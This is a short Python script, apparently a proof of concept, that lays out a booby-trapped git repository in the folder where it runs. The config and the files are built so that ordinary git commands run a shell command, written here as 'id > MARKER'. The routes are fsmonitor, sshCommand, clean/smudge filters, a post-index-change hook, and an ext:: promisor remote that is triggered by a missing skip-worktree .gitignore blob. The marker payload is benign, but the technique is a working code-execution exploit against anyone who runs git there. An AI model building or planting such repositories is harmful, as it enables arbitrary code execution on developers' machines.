"""Leaves the shape of a bare repository in the folder that it is started in;
`python3 bare_repository.py MARKER`.

Whoever asks git there what is ignored starts `id > MARKER`:
the index names a .gitignore whose content is missing, and the configuration says which program
would bring it.
Filters, hooks and the monitor of files start it too.
Standard library only.
"""

from __future__ import annotations

import hashlib
import struct
import sys
from pathlib import Path

MISSING = hashlib.sha1(b"blob 6\0*.log\n").digest()
SKIP_WORKTREE, EXTENDED = 0x4000, 0x4000


def index() -> bytes:
    """One entry, which is not in the worktree by its own word."""
    name = b".gitignore"
    fixed = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, 6)
    entry = fixed + MISSING + struct.pack(">HH", EXTENDED | len(name), SKIP_WORKTREE) + name
    entry += b"\0" * (8 - len(entry) % 8)
    whole = b"DIRC" + struct.pack(">II", 3, 1) + entry
    return whole + hashlib.sha1(whole).digest()


def config(marker: str) -> str:
    start = f"id > {marker}"
    helper = f"ext::sh -c id% >{marker}"
    return f"""[core]
\trepositoryformatversion = 1
\tbare = false
\tworktree = .
\tfsmonitor = "{start}; false"
\thooksPath = hooks
\tsshCommand = "{start}"
[extensions]
\tpartialClone = evil
[remote "evil"]
\turl = "{helper}"
\tpromisor = true
[protocol "ext"]
\tallow = always
[filter "evil"]
\tclean = "{start}"
\tsmudge = "{start}"
"""


def leave(folder: Path, marker: str) -> None:
    for name in ("objects", "refs", "hooks"):
        (folder / name).mkdir(exist_ok=True)
        (folder / name / "kept").write_text("")
    (folder / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "config").write_text(config(marker))
    (folder / "index").write_bytes(index())
    (folder / ".gitattributes").write_text("* filter=evil\n")
    (folder / "a.log").write_text("1\n")
    hook = folder / "hooks" / "post-index-change"
    hook.write_text(f"#!/bin/sh\nid > {marker}\n")
    hook.chmod(0o755)


if __name__ == "__main__":
    leave(Path.cwd(), sys.argv[1])
